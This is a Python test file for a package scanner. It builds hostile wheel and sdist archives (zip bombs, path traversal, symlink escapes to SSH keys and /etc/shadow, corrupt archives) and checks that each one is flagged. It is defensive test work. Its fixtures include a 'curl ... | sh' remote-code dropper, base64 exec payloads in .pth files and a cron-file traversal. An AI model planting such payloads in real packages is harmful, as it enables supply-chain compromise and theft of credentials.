"""A generated corpus of hostile wheels and sdists through the archive reader, the archive check and `safepip scan`.

Each one must end in a finding or a "could not inspect" error, never an escaped exception, and stay
within the time and memory bounds documented in jupyter_safepip/core/archive.py.
"""

from __future__ import annotations

import io
import struct
import tarfile
import time
import tracemalloc
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from jupyter_safepip.core import archive
from jupyter_safepip.core.archive import ArchiveUnreadable, read_archive
from jupyter_safepip.core.checks.archive import scan_archive
from jupyter_safepip.core.model import Verdict
from jupyter_safepip.core.policy import Policy
from jupyter_safepip.scan import scan_report
from jupyter_safepip.testing.builders import build_sdist, build_wheel
from tests.reliability.conftest import tally
from tests.support.shared import built_once
from tests.support.waits import scaled

PTH_PAYLOAD = b"import os, base64; exec(base64.b64decode('cHJpbnQoInB0aCIp'))\n"
ERROR = "could not inspect"  # an expected outcome: the archive is reported as not inspectable
SHELL_PAYLOAD = b"import os\nos.system('curl http://198.51.100.7/x | sh')\n"
MIB = 1024 * 1024


# ---- raw archive writers: zipfile and tarfile refuse to write most of what follows ----------------------------

@dataclass(frozen=True)
class RawMember:
    """One zip entry exactly as written: a name in bytes, and sizes/flags that may lie."""

    name: bytes
    data: bytes  # already compressed when method is 8
    size: int  # the declared uncompressed size
    crc: int
    method: int = 0
    flags: int = 0
    mode: int = 0o100644


def stored(name: str | bytes, data: bytes, mode: int = 0o100644, flags: int = 0) -> RawMember:
    raw = name.encode() if isinstance(name, str) else name
    return RawMember(raw, data, len(data), zlib.crc32(data), 0, flags, mode)


def deflated(name: str, data: bytes) -> RawMember:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return RawMember(name.encode(), packer.compress(data) + packer.flush(), len(data), zlib.crc32(data), 8)


def zeros_deflated(name: str, size: int) -> RawMember:
    """`size` zero bytes, deflated chunk by chunk (a bomb costs the test little memory to build)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk, crc, parts = bytes(MIB), 0, []
    for _ in range(size // MIB):
        parts.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(packer.flush())
    return RawMember(name.encode(), b"".join(parts), size // MIB * MIB, crc, 8)


def raw_zip(members: list[RawMember]) -> bytes:
    out, central = io.BytesIO(), []
    for m in members:
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, m.flags, m.method, 0, 0x21, m.crc, len(m.data),
                              m.size & 0xFFFFFFFF, len(m.name), 0))
        out.write(m.name + m.data)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 0x0314, 20, m.flags, m.method, 0, 0x21, m.crc,
                                   len(m.data), m.size & 0xFFFFFFFF, len(m.name), 0, 0, 0, 0, m.mode << 16, offset)
                       + m.name)
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    count = min(len(members), 0xFFFF)  # a lie past 65535 entries: readers walk the directory by its size
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0))
    return out.getvalue()


def wheel_members(extra: list[RawMember] | None = None) -> list[RawMember]:
    """A well-formed pure wheel's members, plus `extra`."""
    base = [
        stored("hostile/__init__.py", b"__version__ = '1.0'\n"),
        stored("hostile-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n\n"),
        stored("hostile-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
    ]
    return base + (extra or [])


def wheel_with(files: dict[str, bytes]) -> bytes:
    return raw_zip(wheel_members([stored(name, data) for name, data in files.items()]))


def tar_bytes(entries: list[tuple[tarfile.TarInfo, bytes | None]], mode: str = "w:gz", fmt=tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=fmt) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return out.getvalue()


def tar_file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def tar_special(name: str, kind: bytes, link: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info, None


def sdist(*entries: tuple[tarfile.TarInfo, bytes | None], mode: str = "w:gz") -> bytes:
    base = [tar_file("hostile-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n\n"),
            tar_file("hostile-1.0/hostile.py", b"x = 1\n")]
    return tar_bytes(base + list(entries), mode)


def gz_tar_of_zeros(size: int) -> bytes:
    """A .tar.gz with one member of `size` zero bytes, built in chunks."""
    info = tarfile.TarInfo("hostile-1.0/data.bin")
    info.size = size
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(info.tobuf(tarfile.PAX_FORMAT))]
    chunk = bytes(MIB)
    parts += [packer.compress(chunk) for _ in range(size // MIB)]
    parts.append(packer.compress(bytes(2 * tarfile.BLOCKSIZE)) + packer.flush())
    return b"".join(parts)


def nested_zips(depth: int, innermost: bytes) -> bytes:
    data = innermost
    for level in range(depth):
        data = raw_zip(wheel_members([stored(f"hostile/level{level}.zip", data)]))
    return data


def flip(data: bytes, every: int) -> bytes:
    mutated = bytearray(data)
    for i in range(len(mutated) // 3, len(mutated), every):
        mutated[i] ^= 0xFF
    return bytes(mutated)


# ---- the corpus ---------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """One hostile archive: its file name, how to build its bytes, and the rule ids (or ERROR) it may end in."""

    id: str
    filename: str
    build: Callable[[Path], bytes]
    expect: frozenset[str]


def case(id_: str, filename: str, build: Callable[[Path], bytes], *expect: str) -> Case:
    return Case(id_, filename, build, frozenset(expect))


WHL = "hostile-1.0-py3-none-any.whl"
SDIST = "hostile-1.0.tar.gz"
PTH = "install-pth-executable"
TRAVERSAL = "archive-path-traversal"
BOMB = "archive-bomb"
SHELL = ("shell-dropper-command", "shell-suspicious-command", "shell-exec")
EXEC = ("obfuscation-exec-decoded", "obfuscation-exec-dynamic", "obfuscation-decode")


def _valid_wheel(tmp: Path) -> bytes:
    return build_wheel(tmp, "hostile", "1.0", files={"hostile/__init__.py": "x = 1\n"}).read_bytes()


def _valid_sdist(tmp: Path) -> bytes:
    return build_sdist(tmp, "hostile", "1.0").read_bytes()


CASES = [
    # compression bombs
    case("zip-ratio-bomb", WHL, lambda t: raw_zip(wheel_members([zeros_deflated("hostile/data.bin", 200 * MIB)])), BOMB),
    case("zip-many-small-bombs", WHL, lambda t: raw_zip(wheel_members(
        [RawMember(f"hostile/m{i}.py".encode(), z.data, z.size, z.crc, 8) for i, z in
         enumerate([zeros_deflated("x", 15 * MIB)] * 48)])), BOMB),
    case("zip-too-many-members", WHL, lambda t: raw_zip(wheel_members(
        [stored(f"hostile/{i}.txt", b"") for i in range(archive.MAX_MEMBERS + 10)])), "archive-too-many-members"),
    case("zip-nested-bombs", WHL, lambda t: raw_zip(wheel_members(
        [stored(f"hostile/inner{i}.zip", raw_zip([zeros_deflated("bomb.bin", 100 * MIB)])) for i in range(8)])), BOMB),
    case("zip-nested-deep", WHL, lambda t: nested_zips(12, wheel_with({"hostile_hook.pth": PTH_PAYLOAD})),
         "archive-nested-unreadable"),
    case("zip-nested-payload", WHL, lambda t: nested_zips(1, wheel_with({"hostile_hook.pth": PTH_PAYLOAD})), PTH),
    case("tar-in-zip-traversal", WHL, lambda t: wheel_with({"hostile/vendor.tar.gz": tar_bytes(
        [tar_file("../../outside.py", b"x = 1\n")])}), TRAVERSAL),
    case("tar-gz-bomb", SDIST, lambda t: gz_tar_of_zeros(700 * MIB), BOMB),
    case("tar-gz-bomb-then-member", SDIST, lambda t: gz_tar_of_zeros(100 * MIB)[:-20] + b"", BOMB, ERROR),
    # traversal and odd names
    *[case(f"zip-traversal-{i}", WHL, (lambda n: lambda t: wheel_with({n: PTH_PAYLOAD}))(name), TRAVERSAL)
      for i, name in enumerate(["../../evil.pth", "/etc/evil.pth", "C:/evil.pth", "hostile/../../evil.pth"])],
    case("zip-backslash-traversal", WHL, lambda t: raw_zip(wheel_members([stored(b"..\\..\\evil.pth", PTH_PAYLOAD)])),
         TRAVERSAL),
    case("zip-drive-backslash", WHL, lambda t: raw_zip(wheel_members([stored(b"C:\\evil.pth", PTH_PAYLOAD)])), TRAVERSAL),
    # zipfile (and so pip) cuts a name at its NUL: the member is hostile/ok.py, and its code is what is found.
    case("zip-nul-name", WHL, lambda t: raw_zip(wheel_members([stored(b"hostile/ok.py\x00../../evil.pth", PTH_PAYLOAD)])),
         TRAVERSAL, *EXEC),
    case("zip-invalid-utf8-name", WHL, lambda t: raw_zip(wheel_members(
        [stored(b"hostile/\xff\xfe\xc3(.pth", PTH_PAYLOAD, flags=0x800)])), PTH, ERROR),
    case("zip-cp437-name", WHL, lambda t: raw_zip(wheel_members([stored(b"hostile/\xff\x81.pth", PTH_PAYLOAD)])), PTH),
    case("zip-duplicate-names", WHL, lambda t: raw_zip(wheel_members(
        [stored("hostile/__init__.py", b"import os\n" + SHELL_PAYLOAD)])),
         "archive-duplicate-name"),
    case("zip-deep-nesting", WHL, lambda t: raw_zip(wheel_members([stored("d/" * 3000 + "deep.pth", PTH_PAYLOAD)])), PTH),
    case("zip-long-name", WHL, lambda t: raw_zip(wheel_members([stored("x" * 60000 + ".pth", PTH_PAYLOAD)])), PTH),
    # links and special files
    case("zip-symlink-outside", WHL, lambda t: raw_zip(wheel_members(
        [stored("hostile/passwd", b"../../../../etc/passwd", mode=0o120777)])), "archive-link-escape"),
    case("zip-symlink-absolute", WHL, lambda t: raw_zip(wheel_members(
        [stored("hostile/ssh", b"/root/.ssh", mode=0o120777)])), "archive-link-escape"),
    case("zip-symlink-loop", WHL, lambda t: raw_zip(wheel_members(
        [stored("hostile/a", b"b", mode=0o120777), stored("hostile/b", b"a", mode=0o120777)])), "archive-link"),
    case("zip-huge-symlink", WHL, lambda t: raw_zip(wheel_members([stored("hostile/link", b"../" * 5000, mode=0o120777)])),
         "archive-link-escape", "archive-link"),
    case("zip-fifo", WHL, lambda t: raw_zip(wheel_members([stored("hostile/pipe", b"", mode=0o010644)])),
         "archive-special-file"),
    case("zip-device", WHL, lambda t: raw_zip(wheel_members([stored("hostile/sda", b"", mode=0o060644)])),
         "archive-special-file"),
    case("tar-traversal", SDIST, lambda t: sdist(tar_file("../../etc/cron.d/evil", b"* * * * * root sh\n")), TRAVERSAL),
    case("tar-absolute", SDIST, lambda t: sdist(tar_file("/etc/profile.d/evil.sh", b"curl x | sh\n")), TRAVERSAL),
    case("tar-symlink-outside", SDIST, lambda t: sdist(tar_special("hostile-1.0/key", tarfile.SYMTYPE, "/root/.ssh/id_rsa")),
         "archive-link-escape"),
    case("tar-symlink-loop", SDIST, lambda t: sdist(tar_special("hostile-1.0/a", tarfile.SYMTYPE, "b"),
                                                    tar_special("hostile-1.0/b", tarfile.SYMTYPE, "a")), "archive-link"),
    case("tar-symlink-then-write", SDIST, lambda t: sdist(tar_special("hostile-1.0/d", tarfile.SYMTYPE, "../.."),
                                                          tar_file("hostile-1.0/d/evil.pth", PTH_PAYLOAD)),
         "archive-link-escape"),
    case("tar-hardlink-outside", SDIST, lambda t: sdist(tar_special("hostile-1.0/h", tarfile.LNKTYPE, "/etc/shadow")),
         "archive-link-escape"),
    case("tar-fifo", SDIST, lambda t: sdist(tar_special("hostile-1.0/fifo", tarfile.FIFOTYPE)), "archive-special-file"),
    case("tar-chardev", SDIST, lambda t: sdist(tar_special("hostile-1.0/null", tarfile.CHRTYPE)), "archive-special-file"),
    case("tar-deep-nesting", SDIST, lambda t: sdist(tar_file("hostile-1.0/" + "d/" * 3000 + "deep.pth", PTH_PAYLOAD)), PTH),
    case("tar-duplicate-names", SDIST, lambda t: sdist(tar_file("hostile-1.0/hostile.py", b"y = 2\n")),
         "archive-duplicate-name"),
    case("tar-invalid-utf8-name", SDIST, lambda t: tar_bytes(
        [tar_file("hostile-1.0/PKG-INFO", b"Name: hostile\n"), (_raw_name_info(b"hostile-1.0/\xff\xfe.pth"), PTH_PAYLOAD)],
        fmt=tarfile.GNU_FORMAT), PTH),
    case("tar-nul-in-pax-name", SDIST, lambda t: _pax_name_with_nul(), TRAVERSAL, PTH, ERROR),
    case("tar-huge-declared-size", SDIST, lambda t: _lying_tar_size(), ERROR),
    case("tar-plain-renamed-whl", WHL, lambda t: sdist(tar_file("../x.pth", PTH_PAYLOAD), mode="w"), TRAVERSAL),
    # lies, corruption, encryption, emptiness
    case("zip-huge-declared-size", WHL, lambda t: raw_zip(wheel_members(
        [RawMember(b"hostile/big.py", b"x = 1\n", 2**32 - 1, zlib.crc32(b"x = 1\n"))])), BOMB, ERROR),
    case("zip-wrong-crc", WHL, lambda t: raw_zip(wheel_members([RawMember(b"hostile/x.py", b"x = 1\n", 6, 1234)])), ERROR),
    case("zip-encrypted", WHL, lambda t: raw_zip(wheel_members([stored("hostile/secret.py", b"\x00" * 40, flags=1)])), ERROR),
    case("zip-truncated", WHL, lambda t: _valid_wheel(t)[: len(_valid_wheel(t)) // 2], ERROR),
    case("zip-flipped-bytes", WHL, lambda t: flip(raw_zip(wheel_members([deflated("hostile/x.py", b"import os\n" * 500)])), 7),
         ERROR),
    case("zip-empty-file", WHL, lambda t: b"", ERROR),
    case("zip-empty-archive", WHL, lambda t: raw_zip([]), ERROR),
    case("tar-empty-archive", SDIST, lambda t: tar_bytes([]), ERROR),
    case("tar-truncated", SDIST, lambda t: _valid_sdist(t)[:200], ERROR),
    case("tar-random-bytes", SDIST, lambda t: b"\x1f\x8b" + bytes(range(256)) * 40, ERROR),
    case("whl-random-bytes", WHL, lambda t: bytes(range(256))[::-1] * 40, ERROR),
    case("whl-is-python", WHL, lambda t: b"import os\nos.system('id')\n", ERROR),
    case("whl-prefixed-zip", WHL, lambda t: b"MZ" + bytes(4000) + wheel_with({"hostile_hook.pth": PTH_PAYLOAD}), PTH),
    case("wheel-named-exe", "hostile-1.0.exe", lambda t: wheel_with({"hostile_hook.pth": PTH_PAYLOAD}), PTH),
    case("unknown-named-exe", "hostile-1.0.exe", lambda t: b"MZ" + bytes(200), ERROR),
    case("sdist-named-whl", WHL, lambda t: sdist(tar_file("hostile-1.0/hook.pth", PTH_PAYLOAD)), PTH),
    # hostile content in members the rules parse
    case("py-deep-expression", WHL, lambda t: wheel_with(
        {"hostile/deep.py": b"import os\nx = " + b"-" * 200_000 + b"1\n" + SHELL_PAYLOAD}), *SHELL),
    case("py-long-chain", WHL, lambda t: wheel_with(
        {"hostile/chain.py": b"import os\nx = a" + b" + a" * 150_000 + b"\n" + SHELL_PAYLOAD}), *SHELL),
    case("py-nested-calls", WHL, lambda t: wheel_with(
        {"hostile/calls.py": b"exec(" * 5000 + b"1" + b")" * 5000 + b"\n" + PTH_PAYLOAD}), *EXEC),
    case("py-nul-and-garbage", WHL, lambda t: wheel_with(
        {"hostile/garbage.py": b"\x00\xff\xfe import os\x00\n" + PTH_PAYLOAD}), *EXEC),
    case("py-bad-coding", WHL, lambda t: wheel_with(
        {"hostile/coding.py": b"# -*- coding: no-such-codec -*-\n" + PTH_PAYLOAD}), *EXEC),
    case("py-huge-line", WHL, lambda t: wheel_with({"hostile/line.py": b"x = '" + b"A" * (6 * MIB) + b"'\n" + PTH_PAYLOAD}),
         *EXEC),
    case("pth-huge", WHL, lambda t: wheel_with({"hostile.pth": b"import os;" + b"x" * (5 * MIB) + b"\n"}), PTH),
    case("metadata-garbage", WHL, lambda t: raw_zip(wheel_members()[:1] + [
        stored("hostile-1.0.dist-info/METADATA", bytes(range(256)) * 100),
        stored("hostile-1.0.dist-info/WHEEL", b"\xff\xfe" * 100), stored("hostile_hook.pth", PTH_PAYLOAD)]), PTH),
    case("pyproject-deep-toml", SDIST, lambda t: sdist(
        tar_file("hostile-1.0/pyproject.toml", b"[build-system]\nrequires = " + b"[" * 100_000 + b"\n"),
        tar_file("hostile-1.0/setup.py", b"import os\n" + SHELL_PAYLOAD)), *SHELL),
]


def _raw_name_info(name: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name.decode("utf-8", "surrogateescape"))
    info.size = len(PTH_PAYLOAD)
    return info


def _pax_name_with_nul() -> bytes:
    info = tarfile.TarInfo("hostile-1.0/ok.py")
    info.size = len(PTH_PAYLOAD)
    info.pax_headers = {"path": "hostile-1.0/ok.py\x00/../../evil.pth"}
    return sdist((info, PTH_PAYLOAD))


def _lying_tar_size() -> bytes:
    info = tarfile.TarInfo("hostile-1.0/big.py")
    info.size = 8 * 1024**3
    header = info.tobuf(tarfile.PAX_FORMAT)
    return zlib.compress(header + b"x = 1\n" + bytes(2000))  # zlib, not gzip: the name still says .tar.gz


# ---- the bounds ---------------------------------------------------------------------------------------------

# archive.py documents the memory bound; generous margins for the interpreter, the ast and the findings.
PARSE_OVERHEAD = 160 * MIB
SECONDS_PER_CASE = 90.0  # only catches a runaway (a hang or a loop); speed is measured by benchmarks/reliability.py


def _outcome(scan) -> set[str]:
    rules = {f.rule_id for f in scan.findings}
    if any("could not inspect" in e.reason or "partly inspected" in e.reason for e in scan.errors):
        rules.add(ERROR)
    return rules


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, Path]:
    """Built once per run, for every parallel worker (the tests only read it)."""
    def build(root: Path) -> None:
        for c in CASES:
            folder = root / c.id
            folder.mkdir()
            (folder / c.filename).write_bytes(c.build(folder / "scratch"))

    root = built_once(tmp_path_factory, "hostile-corpus", build)
    return {c.id: root / c.id / c.filename for c in CASES}


@pytest.mark.parametrize("c", CASES, ids=[c.id for c in CASES])
def test_the_archive_check_reports_a_hostile_archive(corpus, c):
    path = corpus[c.id]
    tally("hostile inputs")
    tracemalloc.start()
    started = time.perf_counter()
    try:
        scan = scan_archive(path)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    found = _outcome(scan)
    assert found & c.expect, f"{c.id}: expected one of {sorted(c.expect)}, got {sorted(found)} {scan.errors}"
    assert elapsed < scaled(SECONDS_PER_CASE), f"{c.id} took {elapsed:.1f}s"
    assert peak < archive.memory_bound(path.stat().st_size) + PARSE_OVERHEAD, f"{c.id} peaked at {peak / MIB:.0f} MiB"


@pytest.mark.parametrize("c", CASES, ids=[c.id for c in CASES])
def test_the_reader_reads_or_refuses(corpus, c):
    tally("hostile inputs")
    try:
        contents = read_archive(corpus[c.id], lambda name: name.endswith((".py", ".pth")))
    except ArchiveUnreadable as exc:
        assert str(exc) and "\n" not in str(exc)
        return
    assert contents.bytes_read <= archive.MAX_TOTAL_BYTES
    for member in contents.members:
        assert "\x00" not in member.name and not member.name.startswith("/") and ".." not in member.name.split("/")
        member.name.encode("utf-8")  # names reach SQLite, JSON and terminals: no lone surrogates


def test_safepip_scan_blocks_or_cannot_check_the_whole_corpus(corpus):
    ids, paths = zip(*corpus.items())
    tally("hostile inputs", len(paths))
    report, _ = scan_report(list(paths), Policy())
    assert len(report.packages) == len(paths)
    assert report.verdict is Verdict.BLOCK
    silent = [i for i, p in zip(ids, report.packages) if not p.findings and not p.errors]
    assert not silent, f"hostile archives reported nothing: {silent}"
    allowed = {i for i, p in zip(ids, report.packages) if p.verdict is Verdict.ALLOW}
    # Only what the rule table rates low may pass: links that stay inside the package.
    assert allowed <= {"zip-symlink-loop", "tar-symlink-loop", "zip-huge-symlink"}, allowed
